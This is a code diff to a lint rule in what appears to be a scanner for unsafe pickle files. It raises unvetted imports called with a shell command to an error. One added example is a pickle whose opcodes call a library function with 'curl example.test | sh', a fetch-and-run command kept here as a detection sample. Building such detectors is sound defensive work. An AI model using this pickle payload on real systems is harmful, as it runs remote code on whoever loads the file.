@@ -1,5 +1,5 @@
 import { defineRule } from '../rule.ts';
-import { conversionFixes, importPlace, isAllowed, spelled } from './importWords.ts';
+import { conversionFixes, importPlace, isAllowed, isGivenCommand, spelled } from './importWords.ts';
 import { judgeImport } from './knownImports.ts';
 
 export const unknownImport = defineRule({
@@ -9,7 +9,7 @@ export const unknownImport = defineRule({
     title: 'The pickle reaches for something that nobody has vetted',
     severity: 'warning',
     description:
-      "Loading the file looks up a name that is neither known to be harmless (the vetted names of PyTorch, NumPy, SciPy, joblib, scikit-learn, pandas, XGBoost, LightGBM, transformers and others) nor known to be dangerous: a class of your own, of a library that is not listed, or an attacker's next idea.",
+      "Loading the file looks up a name that is neither known to be harmless (the vetted names of PyTorch, NumPy, SciPy, joblib, scikit-learn, pandas, XGBoost, LightGBM, transformers and others) nor known to be dangerous: a class of your own, of a library that is not listed, or an attacker's next idea. It is an error when the name is called with a shell command or with Python code.",
     why: 'Lists of dangerous names are always incomplete: more than a hundred gadgets were found in ordinary libraries in one study. What is not vetted is therefore told.',
     howToFix:
       'If the class is yours, allow it in `weighbridge.yaml`: `allow-imports: [mypackage.models.*]`. For weights, save the state dict as safetensors, which needs no classes at all.',
@@ -18,6 +18,11 @@ export const unknownImport = defineRule({
         file: 'model.pkl',
         pickle: 'PROTO 2\nGLOBAL mypackage.models Net\nEMPTY_TUPLE\nNEWOBJ\nSTOP',
         note: 'Whoever controls `mypackage` on the loading machine decides what runs.',
+      },
+      {
+        file: 'job.pkl',
+        pickle: "PROTO 2\nGLOBAL somelibrary.tools run\nBINUNICODE 'curl example.test | sh'\nTUPLE1\nREDUCE\nSTOP",
+        note: 'What `run` does with a command need not be known.',
       },
     ],
     prefer: [{ file: 'model.pkl', pickle: 'PROTO 2\nGLOBAL numpy dtype\nSTOP' }],
@@ -38,6 +43,15 @@ export const unknownImport = defineRule({
     for (const entry of part.imports) {
       if (entry.state !== 'constant' || entry.module === null || entry.name === null) continue;
       if (judgeImport(entry).tier !== 'unknown' || isAllowed(entry, artifact)) continue;
+      if (isGivenCommand(entry) && part.context !== 'hidden') {
+        report({
+          message: `Loading it calls ${entry.call}, which is not among the vetted names and is given a command or code. Do not load this file.`,
+          severity: 'error',
+          ...importPlace(part, entry),
+          fixes: conversionFixes(artifact),
+        });
+        continue;
+      }
       const does = entry.called ? 'builds or calls' : 'imports';
       report({
         message: `Loading it ${does} ${spelled(entry)}, which is not among the vetted names. Allow it if it is yours; otherwise do not load this file.`,
